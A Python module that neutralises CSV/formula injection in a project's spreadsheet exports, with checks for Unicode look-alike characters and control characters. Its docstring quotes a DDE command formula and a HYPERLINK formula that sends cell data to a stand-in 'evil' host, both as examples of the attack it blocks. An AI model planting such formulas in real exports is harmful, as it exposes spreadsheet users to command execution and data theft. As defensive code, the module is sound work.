"""The one CSV guard: every CSV the project writes for people to open (page exports, `jss query`
and `jss cypher --format csv`, the loader's rejects file) goes through `csv_text` or `neutralise`.

A spreadsheet (Excel, LibreOffice, Google Sheets) treats a cell that starts with `=`, `+`, `-` or
`@` — or with a tab or carriage return before one — as a formula, and a formula can run commands
(DDE: `=cmd|' /C calc'!A0`) or send the sheet's other cells to a web address
(`=HYPERLINK("https://evil/?"&A2, "click")`). The values we export come from agency files and from
console queries, so any of them may be crafted. OWASP's rule: prefix such a cell with `'`, which
makes every spreadsheet read it as text.

Checked, beyond the ASCII characters: the same characters after leading whitespace or invisible
characters (Excel trims some of them before it parses a cell), full-width and small forms
(`＝＋－＠`, `﹦﹢﹣﹫`: they NFKC-normalise to the ASCII ones and IME input produces them) and the
minus sign U+2212. Headers are cells too.

Kept as they are: plain decimal numbers (`-3`, `+82`, `-12.5`, `1e-3` with ASCII digits only,
nothing before or after). A spreadsheet reads them as numbers; even when one evaluates `+82` as the
formula `=+82`, a numeric literal has no function, reference or DDE link to call, so it can do
nothing. Everything else that starts with a sign (`-inf`, `+82 10-1234-5678`, `-1_000`, ` -3`) is
prefixed.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, datetime, time
from typing import Any

BOM = "\ufeff"
# What starts a formula once NFKC-normalised (full-width ＝＋－＠ and small ﹦﹢﹣﹫ become these).
_FORMULA_STARTS = frozenset("=+-@")
# Not changed by NFKC, read as a minus by some spreadsheets.
_MINUS_SIGNS = frozenset("\u2212")
# Control characters OWASP lists (tab, CR) plus LF: a cell starting with any of them is prefixed.
_CONTROL_STARTS = frozenset("\t\r\n")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def _skippable(ch: str) -> bool:
    """Characters a spreadsheet may drop before it looks at the first one: whitespace (incl.
    NBSP and the ideographic space), format characters (zero-width space, BOM, direction marks)."""
    return ch.isspace() or unicodedata.category(ch) in ("Zs", "Cf", "Cc")


def is_dangerous(text: str) -> bool:
    """Whether a spreadsheet could read `text` as a formula (see the module's docstring)."""
    if not text:
        return False
    if text[0] in _CONTROL_STARTS:
        return True
    i = 0
    while i < len(text) and _skippable(text[i]):
        i += 1
    if i == len(text):
        return False
    first = text[i]
    if first not in _MINUS_SIGNS and unicodedata.normalize("NFKC", first)[:1] not in _FORMULA_STARTS:
        return False
    # A plain ASCII number with nothing around it stays a number.
    return not (i == 0 and _PLAIN_NUMBER.fullmatch(text))


def render(value: Any) -> str:
    """A value as the text of one cell: lists joined with `; `, maps as `key: value, …`, dates ISO."""
    if value is None:
        return ""
    if isinstance(value, str):
        return value
    if isinstance(value, Mapping):
        return ", ".join(f"{k}: {render(v)}" for k, v in value.items())
    if isinstance(value, (list, tuple, set, frozenset)):
        items = sorted(value, key=str) if isinstance(value, (set, frozenset)) else value
        return "; ".join(render(v) for v in items)
    if isinstance(value, (datetime, date, time)):
        return value.isoformat()
    if hasattr(value, "iso_format"):  # neo4j.time types, should one reach an export undecoded
        return str(value.iso_format())
    return str(value)


def neutralise(value: Any) -> str:
    """The cell's text, prefixed with `'` when a spreadsheet could read it as a formula."""
    text = render(value)
    return "'" + text if is_dangerous(text) else text


def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]], *,
             headers: Mapping[str, str] | Sequence[str] | None = None, bom: bool = True,
             lineterminator: str = "\r\n") -> str:
    """CSV of `rows` (the values under `columns`, in that order), every header and cell neutralised.

    `headers`: the header text per column (a mapping, or a list in column order); default the
    column keys. `bom`: start with a UTF-8 byte-order mark, without which Excel on Korean Windows
    opens UTF-8 as CP949 and garbles Hangul (off for terminal output).
    """
    if headers is None:
        names: list[Any] = list(columns)
    elif isinstance(headers, Mapping):
        names = [headers.get(c, c) for c in columns]
    else:
        names = list(headers)
        if len(names) != len(columns):
            raise ValueError(f"{len(names)} headers for {len(columns)} columns")
    # The csv module quotes a cell only for the characters of its own line terminator: with `\n`,
    # a bare CR in a cell would be written unquoted and split the row. So every row is written
    # with `\r\n` (which quotes both) and the rows are joined with the terminator asked for.
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    lines = []
    for cells in ([neutralise(h) for h in names], *([neutralise(row.get(c)) for c in columns] for row in rows)):
        writer.writerow(cells)
        lines.append(buf.getvalue()[:-2])
        buf.seek(0)
        buf.truncate()
    return (BOM if bom else "") + "".join(line + lineterminator for line in lines)
